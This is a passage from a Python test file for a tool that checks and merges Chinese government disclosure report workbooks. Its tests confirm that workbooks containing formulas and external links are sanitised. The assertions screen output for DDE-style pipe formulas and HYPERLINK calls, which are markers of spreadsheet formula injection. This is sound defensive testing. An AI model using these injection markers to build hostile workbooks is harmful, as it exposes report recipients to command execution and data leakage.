    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def test_the_marked_copy_keeps_values_where_the_template_has_no_formula_and_no_external_link(tmp_path, cli):
    # issue 26 (3): the marked copy served to the unit and the office still held all three
    import zipfile

    hostile = _formulas_and_links(tmp_path / "示例.xlsx")
    marked = tmp_path / "marked.xlsx"
    cli("check", str(hostile), "--annotate", str(marked))
    with zipfile.ZipFile(marked) as z:
        assert [n for n in z.namelist() if "externalLink" in n] == []
        assert b"externalLink" not in z.read("[Content_Types].xml") + z.read("xl/_rels/workbook.xml.rels")
    wb = openpyxl.load_workbook(marked)
    original = openpyxl.load_workbook(hostile, data_only=True)
    assert (wb["一、总体情况"]["A4"].value, wb["封面"]["C3"].value, wb["二、主动公开"]["B6"].value) == (
        original["一、总体情况"]["A4"].value, "点击查看", 0)
    assert wb["三、依申请公开"]["J6"].value == "=SUM(D6:I6)"  # the template's totals stay formulas
    assert [f.rule for f in one(marked).findings if f.rule in ("S6", "W11")] == []


def test_a_workbook_with_formulas_and_links_is_not_summed_and_its_comparison_carries_neither(tmp_path, cli):
    # issue 26 (3): S6 is an error, so merge leaves the file out; compare writes from the reports read
    import re
    import zipfile

    hostile = _formulas_and_links(tmp_path / "示例.xlsx")
    merged = cli("merge", str(hostile), "-o", str(tmp_path / "汇总.xlsx"), "--unit", "示例县", "--year", "2023")
    assert merged.output.splitlines()[:3] == ["未写入汇总表：没有可以汇总的报送", "未汇总 1 份：",
                                              f"  有错误  栾川县赤土店镇人民政府  {hostile}"]
    assert cli("compare", str(hostile), str(hostile), "-o", str(tmp_path / "比较.xlsx")).exit_code == 0
    with zipfile.ZipFile(tmp_path / "比较.xlsx") as z:
        assert [n for n in z.namelist() if "externalLink" in n] == []
        formulas = [f for n in z.namelist() if n.startswith("xl/worksheets/")
                    for f in re.findall(rb"<f>([^<]*)</f>", z.read(n))]
        assert [f for f in formulas if b"|" in f or b"HYPERLINK" in f or b"1-1" in f] == []
